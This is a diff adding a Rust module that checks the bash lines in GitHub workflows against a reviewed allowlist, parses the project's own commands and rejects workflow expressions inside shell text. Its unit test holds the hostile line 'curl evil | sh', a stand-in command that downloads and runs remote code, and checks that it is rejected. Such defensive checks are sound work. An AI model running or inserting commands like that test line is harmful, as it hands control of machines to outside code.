@@ -1,0 +1,128 @@
+//! Every line of bash that a workflow has: our commands are parsed by our own command line, the others are known here.
+
+use std::collections::BTreeMap;
+
+use clap::Parser;
+use compatrix::cli::Cli;
+
+use crate::yaml::Node;
+
+/// Lines that are not ours, as they were reviewed. A new one is added here by somebody who has read it.
+const KNOWN: &[&str] = &[
+    "rustup toolchain install \"$RUSTUP_TOOLCHAIN\" --profile minimal --no-self-update",
+    "rustup toolchain install \"$RUSTUP_TOOLCHAIN\" --profile minimal --component clippy,rustfmt --no-self-update",
+    "rustup toolchain install nightly --profile minimal --component miri,rust-src --no-self-update",
+    "sudo apt-get update",
+    "sudo apt-get install --yes --no-install-recommends libsqlite3-dev pkg-config",
+    "sudo apt-get install --yes --no-install-recommends valgrind",
+    "sudo apt-get install --yes --no-install-recommends debian-archive-keyring gpgv patchelf",
+    "sudo apt-get install --yes --no-install-recommends -- \"${packages[@]}\"",
+    "read -r -a packages <<< \"$PACKAGES\"",
+    "apt-get update",
+    "apt-get install --yes --no-install-recommends ca-certificates gcc git libc6-dev patchelf pkg-config",
+    "apt-get install --yes --no-install-recommends libsqlite3-dev",
+    "apt-get install --yes --no-install-recommends valgrind",
+    "echo \"$CARGO_HOME/bin\" >> \"$GITHUB_PATH\"",
+    "git config --global --add safe.directory \"$GITHUB_WORKSPACE\"",
+    "chmod +x target/ci/bin/cargo-*",
+    "echo \"$GITHUB_WORKSPACE/target/ci/bin\" >> \"$GITHUB_PATH\"",
+    "cargo build --locked --manifest-path \"$MANIFEST\" --bin \"$BINARY\" --target \"$TARGET\"",
+    "cargo build --locked --manifest-path \"$MANIFEST\" --bin \"$BINARY\"",
+    "cargo install compatrix --version \"=$VERSION\" --locked --debug --root target/ci/installed --target \"$TARGET\"",
+    "cargo install compatrix --version \"=$VERSION\" --locked --debug --root target/ci/installed",
+    "cargo install compatrix --version \"=$VERSION\" --locked --debug",
+    "mkdir -p target/ci/bin",
+    "cp \"$BUILT\" \"$HANDED\"",
+    "cargo fmt --all --check",
+    "cargo clippy --workspace --all-targets --locked -- -D warnings",
+    "cargo test --workspace --locked",
+    "cargo doc --workspace --no-deps --locked",
+    "bash -- \"$SCRIPT\"",
+    "number=$(gh issue list --repo \"$GITHUB_REPOSITORY\" --state open --limit 1000 --json number,title \\",
+    "  --jq 'map(select(.title == env.TITLE)) | .[0].number // empty')",
+    "body=\"The scheduled run has no good verdict: $RUN_PAGE\"",
+    "if [ -n \"$number\" ]; then",
+    "  gh issue comment \"$number\" --repo \"$GITHUB_REPOSITORY\" --body \"$body\"",
+    "else",
+    "  gh issue create --repo \"$GITHUB_REPOSITORY\" --title \"$TITLE\" --body \"$body\"",
+    "fi",
+];
+
+/// Variables that GitHub sets, and those that the lines above set themselves.
+const GIVEN: &[&str] = &["GITHUB_PATH", "GITHUB_REPOSITORY", "GITHUB_WORKSPACE", "number", "body", "packages"];
+
+/// What is wrong with a step's lines. `env` are the variables of job and step, with what they may hold.
+pub(crate) fn check(run: &str, env: &BTreeMap<String, String>, seen: &mut Seen) -> Result<(), String> {
+    if run.contains("${{") {
+        return Err(format!("an expression stands in a shell text: {run}"));
+    }
+    for line in run.lines() {
+        for name in variables(line) {
+            if !env.contains_key(name) && !GIVEN.contains(&name) {
+                return Err(format!("nothing sets ${name}: {line}"));
+            }
+        }
+        let ours = ["cargo xtask ", "cargo compatrix "].iter().find_map(|program| line.strip_prefix(program));
+        match ours {
+            // What was parsed once need not be parsed ten thousand times.
+            Some(arguments) if seen.insert((line.to_owned(), env.get("EVENT").cloned())) => parse(arguments, env)?,
+            Some(_) => {}
+            None if KNOWN.contains(&line) => {}
+            None => return Err(format!("nobody has reviewed this line: {line}")),
+        }
+    }
+    Ok(())
+}
+
+/// Lines of ours that were parsed, with the event.
+pub(crate) type Seen = std::collections::BTreeSet<(String, Option<String>)>;
+
+/// Our own command line reads it.
+fn parse(arguments: &str, env: &BTreeMap<String, String>) -> Result<(), String> {
+    let words = words(arguments).into_iter().map(|word| {
+        let names: Vec<&str> = variables(&word).collect();
+        names.iter().fold(word.clone(), |word, name| word.replace(&format!("${name}"), &env[*name]))
+    });
+    let words: Vec<String> = std::iter::once("cargo xtask".to_owned()).chain(words).collect();
+    Cli::try_parse_from(&words).map(|_| ()).map_err(|error| format!("{words:?}: {error}"))
+}
+
+/// The words of a line as bash has them, for lines with double quotes and nothing more.
+fn words(line: &str) -> Vec<String> {
+    let mut words = vec![String::new()];
+    let mut quoted = false;
+    for c in line.chars() {
+        match c {
+            '"' => quoted = !quoted,
+            ' ' if !quoted => words.push(String::new()),
+            c => words.last_mut().unwrap().push(c),
+        }
+    }
+    words
+}
+
+/// Names behind a `$`.
+fn variables(line: &str) -> impl Iterator<Item = &str> {
+    line.split('$').skip(1).filter_map(|rest| {
+        let rest = rest.strip_prefix('{').unwrap_or(rest);
+        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
+        Some(&rest[..end]).filter(|name| !name.is_empty())
+    })
+}
+
+/// The variables of `env:` with what they hold; an expression as it stands.
+pub(crate) fn env(of: &Node) -> impl Iterator<Item = (String, String)> + '_ {
+    let entries = of.get("env").map(Node::entries).unwrap_or_default();
+    entries.iter().map(|(name, value)| (name.clone(), value.text().to_owned()))
+}
+
+#[test]
+fn a_line_that_nobody_knows_is_found() {
+    let env: BTreeMap<String, String> = [("EVENT".to_owned(), "push".to_owned())].into();
+    let check = |run: &str| check(run, &env, &mut Seen::new());
+    assert_eq!(check("cargo xtask compat --event \"$EVENT\""), Ok(()));
+    assert!(check("cargo xtask compat --event \"$EVENT\" --jbo x").is_err());
+    assert!(check("cargo xtask compat --event \"$JOB\"").unwrap_err().contains("nothing sets $JOB"));
+    assert!(check("curl evil | sh").unwrap_err().contains("reviewed"));
+    assert!(check("echo ${{ matrix.job }}").unwrap_err().contains("expression"));
+}
